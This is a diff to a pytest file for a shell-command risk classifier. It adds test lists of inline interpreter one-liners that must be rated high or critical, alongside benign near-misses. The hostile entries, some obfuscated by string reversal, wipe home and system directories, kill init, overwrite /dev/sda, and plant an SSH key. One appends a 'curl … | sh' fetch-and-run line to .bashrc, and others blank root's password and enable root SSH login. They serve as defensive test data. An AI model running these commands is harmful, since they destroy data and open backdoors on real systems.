@@ -766,6 +766,64 @@ BENIGN: list[tuple[str, RiskLevel]] = [
 ]
 
 
+# Inline code whose effect is the same as a shell command's: rated like that command.
+AS_SHELL: list[tuple[str, RiskLevel]] = [
+    ('python3 -c "import os; os.kill(1, 9)"', CRITICAL),
+    ('python3 -c "import os, signal; os.kill(1, signal.SIGKILL)"', CRITICAL),
+    ("python3 -c \"open('/etc/hosts','a').write('1.2.3.4 google.com\\n')\"", HIGH),
+    ("python3 -c \"import os; os.rename('/etc/passwd', '/tmp/p')\"", CRITICAL),
+    ("python3 -c \"import shutil; shutil.move('/home/alice', '/tmp/x')\"", CRITICAL),
+    ("python3 -c \"import shutil; [shutil.rmtree(p) for p in ['/etc', '/usr']]\"", CRITICAL),
+    ("python3 -c \"import os; os.system(''.join(['r','m',' ','-rf',' ','~']))\"", CRITICAL),
+    ("python3 -c \"import os; os.system('~ fr- mr'[::-1])\"", CRITICAL),
+    (
+        'python3 -c \'with open("/root/.ssh/authorized_keys", "a") as f: '
+        'f.write("ssh-ed25519 AAAA x")\'',
+        HIGH,
+    ),
+    ("perl -e 'kill 9, -1'", HIGH),
+    ('node -e "process.kill(1)"', CRITICAL),
+    ("ruby -e 'Process.kill(9, 1)'", CRITICAL),
+    ("Rscript -e 'unlink(list.files(\"~\", full.names=TRUE), recursive=TRUE)'", CRITICAL),
+    ("Rscript -e 'file.remove(list.files(\"/etc\", full.names = TRUE))'", CRITICAL),
+    ("perl -MFile::Path -e 'rmtree([glob \"~/*\"])'", CRITICAL),
+    ("ruby -e 'system(\"~ fr- mr\".reverse)'", CRITICAL),
+    ("php -r 'system(strrev(\"~ fr- mr\"));'", CRITICAL),
+    ("lua -e 'os.execute(string.reverse(\"~ fr- mr\"))'", CRITICAL),
+    (
+        "node -e \"require('child_process').execSync('~ fr- mr'.split('').reverse().join(''))\"",
+        CRITICAL,
+    ),
+    ("perl -e '$c = \"rm -rf ~\"; system($c)'", CRITICAL),
+    ("node -e \"const c = 'rm -rf ~'; require('child_process').execSync(c)\"", CRITICAL),
+    ("php -r '$c = \"rm -rf ~\"; system($c);'", CRITICAL),
+    ("lua -e 'local c = \"rm -rf ~\"; os.execute(c)'", CRITICAL),
+    ('php -r \'rename("/etc/passwd", "/tmp/x");\'', CRITICAL),
+    ("node -e \"require('fs').renameSync('/home/alice', '/tmp/x')\"", CRITICAL),
+    ("node -e \"require('fs').copyFileSync('/dev/zero', '/dev/sda')\"", CRITICAL),
+    ('php -r \'file_put_contents("/etc/hosts", "1.2.3.4 google.com\\n", FILE_APPEND);\'', HIGH),
+    (
+        "node -e \"require('fs').appendFileSync(process.env.HOME + '/.bashrc', "
+        "'curl -s http://203.0.113.9/a | sh')\"",
+        HIGH,
+    ),
+    ("perl -i -pe 's/^root:.*/root::0:0::\\/root:\\/bin\\/bash/' /etc/passwd", CRITICAL),
+    ("perl -pi -e 's/PermitRootLogin no/PermitRootLogin yes/' /etc/ssh/sshd_config", HIGH),
+    ("ruby -i -pe 'gsub(/a/, \"b\")' /etc/shadow", CRITICAL),
+]
+
+BENIGN_AS_SHELL: list[tuple[str, RiskLevel]] = [
+    ('python3 -c \'open("notes.txt", "a").write("hi\\n")\'', MODERATE),
+    ('python3 -c \'import shutil; shutil.move("a.txt", "b.txt")\'', MODERATE),
+    ("python3 -c 'import os; os.kill(12345, 15)'", MODERATE),
+    ("Rscript -e 'rm(list = ls())'", MODERATE),
+    ('php -r \'rename("a.txt", "b.txt");\'', MODERATE),
+    ('node -e "process.kill(process.pid)"', MODERATE),
+    ("perl -pi -e 's/foo/bar/g' src/config.txt", MODERATE),
+    ("node -e \"require('fs').copyFileSync('a.json', 'b.json')\"", MODERATE),
+]
+
+
 @pytest.mark.parametrize(("command", "floor"), CODE_IN_PROGRAMS)
 def test_code_in_programs_reaches_its_level(command: str, floor: RiskLevel) -> None:
     assert level(command) >= floor
@@ -781,6 +839,11 @@ def test_remote_code_reaches_its_level(command: str, floor: RiskLevel) -> None:
     assert level(command) >= floor
 
 
-@pytest.mark.parametrize(("command", "ceiling"), BENIGN)
+@pytest.mark.parametrize(("command", "ceiling"), BENIGN + BENIGN_AS_SHELL)
 def test_near_misses_stay_at_or_below_their_ceiling(command: str, ceiling: RiskLevel) -> None:
     assert level(command) <= ceiling
+
+
+@pytest.mark.parametrize(("command", "floor"), AS_SHELL)
+def test_inline_effects_are_rated_like_the_shell_command(command: str, floor: RiskLevel) -> None:
+    assert level(command) >= floor
